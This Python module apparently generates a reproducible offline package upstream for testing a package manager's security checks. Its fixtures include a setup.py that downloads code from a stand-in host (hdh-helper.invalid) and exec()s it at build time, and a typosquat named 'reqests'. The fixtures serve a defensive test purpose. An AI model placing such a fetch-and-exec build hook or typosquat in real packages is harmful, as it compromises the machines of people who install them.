"""A small upstream of Python packages, written as real archives, with no network.

The package manager is tested and demonstrated against this folder served by pypiserver: ordinary
packages with a dependency chain, and one package for each way a request must be stopped (no
licence, a setup.py that downloads and runs code, a typosquat, a known vulnerability, a copyleft
licence, no installable file, unsatisfiable requirements). Archives are built byte for byte the
same on every run (fixed timestamps, owners and order), so their sha256 can be written in tests.

Sdists carry static metadata (PKG-INFO 2.2+, nothing dynamic): uv resolves them without running
their setup.py. pip always builds an sdist's metadata, which needs setuptools from the index; this
upstream has none, so pip cannot resolve ``hdh-setup-fetch`` (uv can).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import re
import tarfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

_EPOCH = (2024, 1, 1, 0, 0, 0)
_EPOCH_SECONDS = 1704067200  # the same instant for tar members and the gzip header
_GENERATOR = "hdh-synthetic 1.0"


@dataclass(frozen=True)
class SyntheticPackage:
    """One release: its metadata and which archives are written for it."""

    name: str
    version: str
    requires: tuple[str, ...] = ()  # Requires-Dist lines
    license_expression: str | None = None  # Metadata 2.4 License-Expression
    license: str | None = None  # the older free-text License field
    classifiers: tuple[str, ...] = ()
    wheel_tag: str | None = "py3-none-any"  # None: no wheel
    sdist: bool = False
    setup_py: str | None = None  # an sdist's setup.py (default: a plain setuptools call)
    special: str | None = None  # why the package exists, for tests and the demo
    extra_files: dict[str, str] = field(default_factory=dict)


SETUP_FETCH = '''\
"""Builds hdh-setup-fetch. Before building, fetches and runs a "helper" from the network."""
import urllib.request

from setuptools import setup

try:
    code = urllib.request.urlopen("http://hdh-helper.invalid/bootstrap.py", timeout=2).read()
    exec(code)
except Exception:
    pass

setup(name="hdh-setup-fetch", version="0.1.0", packages=["hdh_setup_fetch"])
'''

_MIT = "License :: OSI Approved :: MIT License"
_BSD = "License :: OSI Approved :: BSD License"
_APACHE = "License :: OSI Approved :: Apache Software License"
_GPL3 = "License :: OSI Approved :: GNU General Public License v3 (GPLv3)"
_PY3 = "Programming Language :: Python :: 3"


def catalogue() -> tuple[SyntheticPackage, ...]:
    """The demo upstream: every release, in the order they are written."""
    P = SyntheticPackage
    return (
        P("hdh-core", "1.0.0", license="Apache-2.0", classifiers=(_APACHE, _PY3), sdist=True),
        P("hdh-core", "1.2.0", license="Apache-2.0", classifiers=(_APACHE, _PY3), sdist=True),
        P("hdh-numbers", "1.0.0", ("hdh-core>=1",), license="BSD-3-Clause", classifiers=(_BSD,)),
        P("hdh-tabular", "1.0.0", ("hdh-numbers>=1",), license_expression="MIT"),
        # 1.1.0's "plots" extra needs hdh-plotting, which the upstream does not have; its
        # Python-2-only dependency never applies.
        P(
            "hdh-tabular",
            "1.1.0",
            (
                "hdh-numbers>=1",
                'hdh-plotting; extra == "plots"',
                'hdh-legacy; python_version < "3"',
            ),
            license_expression="MIT",
            classifiers=(_MIT, _PY3),
        ),
        P("hdh-unknown-licence", "1.0.0", special="no_licence"),
        P(
            "hdh-setup-fetch",
            "0.1.0",
            wheel_tag=None,
            sdist=True,
            license="MIT",
            setup_py=SETUP_FETCH,
            special="setup_py_downloads_and_executes",
        ),
        P("reqests", "2.31.0", license="MIT", classifiers=(_MIT,), special="typosquat_of_requests"),
        P("hdh-vulnerable", "1.0.0", classifiers=(_MIT,), special="vulnerable"),
        P("hdh-vulnerable", "1.0.1", classifiers=(_MIT,), special="fixed"),
        P(
            "hdh-gpl",
            "1.0.0",
            license_expression="GPL-3.0-only",
            classifiers=(_GPL3,),
            special="gpl",
        ),
        P(
            "hdh-windows-only",
            "1.0.0",
            license="MIT",
            wheel_tag="cp27-cp27m-win32",
            special="no_file_for_platform",
        ),
        P(
            "hdh-conflict-a",
            "1.0.0",
            ("hdh-conflict-b", "hdh-core<1"),
            license="MIT",
            special="unsatisfiable",
        ),
        P(
            "hdh-conflict-b",
            "1.0.0",
            ("hdh-core>=1",),
            license="MIT",
            special="unsatisfiable_partner",
        ),
    )


def bulk_catalogue(n: int) -> tuple[SyntheticPackage, ...]:
    """n ordinary packages, each depending on up to two earlier ones (a shallow, shared graph)."""
    licences = ("MIT", "BSD-3-Clause", "Apache-2.0")
    packages = []
    for i in range(n):
        parents = sorted({(i - 1) // 2, (i - 1) // 3}) if i else []
        requires = tuple(f"{bulk_name(j)}>=1" for j in parents)
        packages.append(
            SyntheticPackage(bulk_name(i), "1.0.0", requires, license=licences[i % len(licences)])
        )
    return tuple(packages)


def bulk_name(i: int) -> str:
    """Eight hexadecimal digits of a hash: no two bulk names are one edit apart (numbered names
    would all look like typosquats of each other)."""
    return "hdh-bulk-" + hashlib.sha256(f"pypi-bulk-{i}".encode()).hexdigest()[:8]


def build_python_upstream(folder: Path) -> dict[str, Any]:
    """Write the demo upstream's archives into ``folder`` (flat) and describe what was written."""
    return _write(folder, catalogue())


def build_python_upstream_bulk(folder: Path, n: int) -> dict[str, Any]:
    """Write ``n`` ordinary inter-dependent packages (for the benchmark) into ``folder``."""
    return _write(folder, bulk_catalogue(n))


def _write(folder: Path, packages: tuple[SyntheticPackage, ...]) -> dict[str, Any]:
    folder.mkdir(parents=True, exist_ok=True)
    described = []
    for package in packages:
        files = {}
        if package.wheel_tag is not None:
            name, data = wheel(package)
            files[name] = data
        if package.sdist:
            name, data = sdist(package)
            files[name] = data
        for name, data in files.items():
            (folder / name).write_bytes(data)
        described.append(
            {
                "name": package.name,
                "version": package.version,
                "requires": list(package.requires),
                "license": package.license_expression or package.license,
                "special": package.special,
                "files": {name: hashlib.sha256(data).hexdigest() for name, data in files.items()},
            }
        )
    return {
        "folder": str(folder),
        "packages": described,
        "special": {
            p["special"]: p["name"] for p in described if p["special"] not in (None, "fixed")
        },
    }


def distribution_name(name: str) -> str:
    """The file-name form of a project name (PEP 427 / PEP 625): runs of -_. become one _."""
    return re.sub(r"[-_.]+", "_", name).lower()


def metadata(package: SyntheticPackage) -> str:
    """Core metadata (METADATA in wheels, PKG-INFO in sdists)."""
    version = "2.4" if package.license_expression else "2.2"  # 2.2+: static sdist metadata
    lines = [f"Metadata-Version: {version}", f"Name: {package.name}", f"Version: {package.version}"]
    lines.append(f"Summary: Synthetic package {package.name} for the health-data hub's tests")
    if package.license_expression:
        lines.append(f"License-Expression: {package.license_expression}")
    if package.license:
        lines.append(f"License: {package.license}")
    lines += [f"Classifier: {c}" for c in package.classifiers]
    lines.append("Requires-Python: >=3.8" if package.wheel_tag != "cp27-cp27m-win32" else "")
    extras = sorted({m for r in package.requires for m in re.findall(r'extra == "(\w+)"', r)})
    lines += [f"Provides-Extra: {e}" for e in extras]
    lines += [f"Requires-Dist: {r}" for r in package.requires]
    return "\n".join(line for line in lines if line) + "\n\n"


def _module_source(package: SyntheticPackage) -> str:
    return f'"""{package.name} {package.version} (synthetic)."""\n\n__version__ = "{package.version}"\n'


def _record_hash(data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"sha256={digest}"


def wheel(package: SyntheticPackage) -> tuple[str, bytes]:
    """A wheel (PEP 427) with METADATA, WHEEL and RECORD; returns its file name and bytes."""
    dist = distribution_name(package.name)
    info = f"{dist}-{package.version}.dist-info"
    tag = package.wheel_tag or "py3-none-any"
    purelib = "true" if tag.endswith("none-any") else "false"
    members = {
        f"{dist}/__init__.py": _module_source(package).encode(),
        f"{info}/METADATA": metadata(package).encode(),
        f"{info}/WHEEL": (
            f"Wheel-Version: 1.0\nGenerator: {_GENERATOR}\nRoot-Is-Purelib: {purelib}\nTag: {tag}\n\n"
        ).encode(),
    }
    for path, text in package.extra_files.items():
        members[path] = text.encode()
    record = "".join(f"{p},{_record_hash(d)},{len(d)}\n" for p, d in members.items())
    members[f"{info}/RECORD"] = (record + f"{info}/RECORD,,\n").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in members.items():
            entry = zipfile.ZipInfo(path, date_time=_EPOCH)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o644 << 16
            archive.writestr(entry, data)
    return f"{dist}-{package.version}-{tag}.whl", buffer.getvalue()


def sdist(package: SyntheticPackage) -> tuple[str, bytes]:
    """A source distribution (PEP 625 name, PKG-INFO, setup.py, pyproject.toml)."""
    dist = distribution_name(package.name)
    root = f"{dist}-{package.version}"
    setup_py = package.setup_py or (
        "from setuptools import setup\n\n"
        f'setup(name="{package.name}", version="{package.version}", packages=["{dist}"],\n'
        f"      install_requires={list(package.requires)!r})\n"
    )
    members = {
        f"{root}/PKG-INFO": metadata(package).encode(),
        f"{root}/pyproject.toml": (
            b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
        ),
        f"{root}/setup.py": setup_py.encode(),
        f"{root}/{dist}/__init__.py": _module_source(package).encode(),
    }
    tar_bytes = io.BytesIO()
    with tarfile.open(fileobj=tar_bytes, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for path, data in members.items():
            entry = tarfile.TarInfo(path)
            entry.size = len(data)
            entry.mtime = _EPOCH_SECONDS
            entry.mode = 0o644
            entry.uname = entry.gname = ""
            archive.addfile(entry, io.BytesIO(data))
    compressed = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=compressed, mtime=_EPOCH_SECONDS) as gz:
        gz.write(tar_bytes.getvalue())
    return f"{root}.tar.gz", compressed.getvalue()
